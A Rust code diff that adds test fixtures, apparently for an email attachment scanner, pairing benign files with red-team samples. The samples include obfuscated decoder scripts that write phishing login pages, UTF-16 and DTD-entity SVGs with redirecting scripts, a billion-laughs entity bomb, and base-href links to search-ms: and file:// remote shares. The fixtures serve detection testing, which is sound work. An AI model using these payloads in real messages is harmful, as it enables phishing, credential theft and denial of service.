@@ -2085,6 +2085,90 @@ fn pages() -> Vec<Fixture> {
     let xls = |extra: &str| format!("<html xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\" xmlns=\"http://www.w3.org/TR/REC-html40\"><head><meta name=\"ProgId\" content=\"Excel.Sheet\"></head><body>{table}{extra}</body></html>");
     next(&mut out, "xls-html-export", with_attachment("Export", "application/vnd.ms-excel", "Export_inscriptions.xls", xls("").as_bytes()), d, none);
     next(&mut out, "xls-html-export-script", with_attachment("Export", "application/vnd.ms-excel", "Export_inscriptions.xls", xls("<script>location.href = 'search-ms:query=Inscriptions&crumb=location:\\\\\\\\203.0.113.50@SSL\\\\DavWWWRoot\\\\export';</script>").as_bytes()), q, ext);
+    out.extend(pages_red_team(n, login, &b64));
+    out
+}
+
+/// The red-team pages of issue 32 that were delivered, each kind with an
+/// ordinary twin: decoders held in variables (and a function nobody
+/// knows fed a large encoded literal), UTF-16 pages, SVG internal DTD
+/// entities, a `<base href>` every relative link goes to.
+fn pages_red_team(first: usize, login: &str, b64: &str) -> Vec<Fixture> {
+    let p = "page";
+    let q = "quarantine";
+    let d = "deliver";
+    let none: &[&str] = &[];
+    let ext: &[&str] = &["external_content"];
+    let phishing: &[&str] = &["phishing_page"];
+    let active: &[&str] = &["active_content"];
+    let html = |subject: &str, name: &str, page: &[u8]| with_attachment(subject, "text/html", name, page);
+    let svg_mail = |name: &str, doc: &[u8]| with_attachment("Message vocal", "image/svg+xml", name, doc);
+    let mut out = Vec::new();
+    let mut n = first;
+    let mut next = |out: &mut Vec<Fixture>, name: &str, eml: String, action: &'static str, cats: &'static [&'static str]| {
+        out.push(fx(p, leak(format!("{n}-{name}")), eml, action, cats));
+        n += 1;
+    };
+    let written = |script: &str| html_page("Document partagé", "", &format!("<script>\n{script}\n</script>"));
+    let pct: String = login.bytes().map(|b| format!("%{b:02X}")).collect();
+    let codes: Vec<String> = login.encode_utf16().map(|u| u.to_string()).collect();
+    let codes = codes.join(",");
+    let big = base64::engine::general_purpose::STANDARD.encode(login.repeat(3));
+    for (how, script) in [
+        ("aliased-atob", format!("var d = atob;\ndocument.write(d('{b64}'));")),
+        ("computed-window-atob", format!("var d = window['at' + 'ob'];\ndocument.write(d('{b64}'));")),
+        ("destructured-atob", format!("const {{ atob: x }} = window;\ndocument.body.innerHTML = x('{b64}');")),
+        ("aliased-unescape", format!("var u = unescape;\ndocument.write(u('{pct}'));")),
+        ("aliased-decodeuricomponent", format!("var u = self['decodeURI' + 'Component'];\ndocument.write(u(\"{pct}\"));")),
+        ("aliased-fromcharcode", format!("var f = String.fromCharCode;\ndocument.write(f.apply(null, [{codes}]));")),
+        ("unknown-function", format!("document.write(Decodeur.lire('{big}'));")),
+    ] {
+        next(&mut out, &format!("written-by-{how}"), html("Document partagé", "Bordereau.html", written(&script).as_bytes()), q, phishing);
+    }
+    let notice = base64::engine::general_purpose::STANDARD.encode("<p>Ce rapport a été généré automatiquement par le logiciel de gestion des salles.</p>");
+    next(&mut out, "written-notice-by-aliased-atob", html("Rapport", "Rapport.html", html_page("Rapport", "", &format!("<script>var d = atob; document.write(d('{notice}'));</script>")).as_bytes()), d, none);
+    // UTF-16, little- and big-endian, with a byte order mark or only an
+    // XML declaration to tell the order by.
+    let utf16 = |text: &str, little: bool, bom: bool| -> Vec<u8> {
+        let mut out = Vec::new();
+        if bom {
+            out.extend_from_slice(if little { &[0xff, 0xfe] } else { &[0xfe, 0xff] });
+        }
+        for u in text.encode_utf16() {
+            out.extend_from_slice(&if little { u.to_le_bytes() } else { u.to_be_bytes() });
+        }
+        out
+    };
+    let svg16 = |inner: &str| format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"300\">\n<rect width=\"400\" height=\"300\" fill=\"#eee\"/>\n{inner}\n</svg>\n");
+    let script = svg16("<script><![CDATA[ window.location = 'https://messagerie.example.invalid/'; ]]></script>");
+    let foreign = svg16("<foreignObject width=\"400\" height=\"300\"><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Message vocal (0:42)</p></body></html></foreignObject>");
+    next(&mut out, "utf16le-bom-svg-script", svg_mail("Message_vocal.svg", &utf16(&script, true, true)), q, active);
+    next(&mut out, "utf16be-bom-svg-foreignobject", svg_mail("Message_vocal.svg", &utf16(&foreign, false, true)), q, active);
+    next(&mut out, "utf16le-no-bom-svg-script", svg_mail("Message_vocal.svg", &utf16(&script, true, false)), q, active);
+    next(&mut out, "utf16be-no-bom-svg-foreignobject", svg_mail("Message_vocal.svg", &utf16(&foreign, false, false)), q, active);
+    let sign_in = html_page("Connexion", "", login);
+    next(&mut out, "utf16le-bom-html-sign-in", html("Document partagé", "Document.html", &utf16(&sign_in, true, true)), q, phishing);
+    let chart = svg16("<title>Budget 2027</title><rect x=\"40\" y=\"60\" width=\"60\" height=\"200\" fill=\"#3b6\"/><text x=\"40\" y=\"280\">Écoles</text>");
+    next(&mut out, "utf16le-bom-svg-chart", with_attachment("Budget", "image/svg+xml", "Budget_2027.svg", &utf16(&chart, true, true)), d, none);
+    // Internal DTD entities: a javascript: URL, markup, a billion laughs;
+    // Illustrator's namespace entities.
+    let dtd = |subset: &str, body: &str| format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE svg [\n{subset}\n]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"400\" height=\"300\">\n{body}\n</svg>\n");
+    next(&mut out, "svg-entity-javascript-url", svg_mail("Message_vocal.svg", dtd("<!ENTITY lien \"javascript:window.location='https://messagerie.example.invalid/'\">", "<a href=\"&lien;\"><text x=\"20\" y=\"40\">Écouter le message</text></a>").as_bytes()), q, active);
+    next(&mut out, "svg-entity-script-markup", svg_mail("Message_vocal.svg", dtd("<!ENTITY s \"&#60;script&#62;window.location='https://messagerie.example.invalid/'&#60;/script&#62;\">", "<text x=\"20\" y=\"40\">Message vocal</text>&s;").as_bytes()), q, active);
+    let mut laughs = String::from("<!ENTITY l0 \"ha\">");
+    for i in 1..10 {
+        laughs.push_str(&format!("\n<!ENTITY l{i} \"{}\">", format!("&l{};", i - 1).repeat(10)));
+    }
+    next(&mut out, "svg-entity-billion-laughs", svg_mail("Message_vocal.svg", dtd(&laughs, "<text x=\"20\" y=\"40\">&l9;</text>").as_bytes()), q, &["budget_exceeded"]);
+    next(&mut out, "svg-entity-illustrator-namespaces", with_attachment("Budget", "image/svg+xml", "Budget_2027.svg", dtd("<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">\n<!ENTITY ns_xlink \"http://www.w3.org/1999/xlink\">\n<!ENTITY titre \"Budget 2027\">", "<title>&titre;</title><g xmlns:x=\"&ns_xlink;\"><rect width=\"60\" height=\"200\" fill=\"#3b6\"/><text y=\"280\">&titre;</text></g>").as_bytes()), d, none);
+    // A <base href> that every relative link goes to.
+    for (how, base, link) in [
+        ("search-ms", "search-ms:query=Facture&amp;crumb=location:\\\\203.0.113.50@SSL\\DavWWWRoot\\partage", "#"),
+        ("file", "file://203.0.113.50/partage/", "Facture_2026-11.pdf.lnk"),
+    ] {
+        next(&mut out, &format!("base-{how}-relative-link"), html("Documents numérisés", "Documents.html", html_page("Documents", &format!("<base href=\"{base}\">"), &format!("<p><a href=\"{link}\">Ouvrir la facture</a></p>")).as_bytes()), q, ext);
+    }
+    next(&mut out, "base-town-site-relative-link", html("Démarches en ligne", "Demarches.html", html_page("Démarches", "<base href=\"https://www.ville-exemple.fr/demarches/\">", "<p><a href=\"etat-civil\">Démarches d'état civil</a> <a href=\"#haut\">Haut de page</a></p>").as_bytes()), d, none);
     out
 }
 
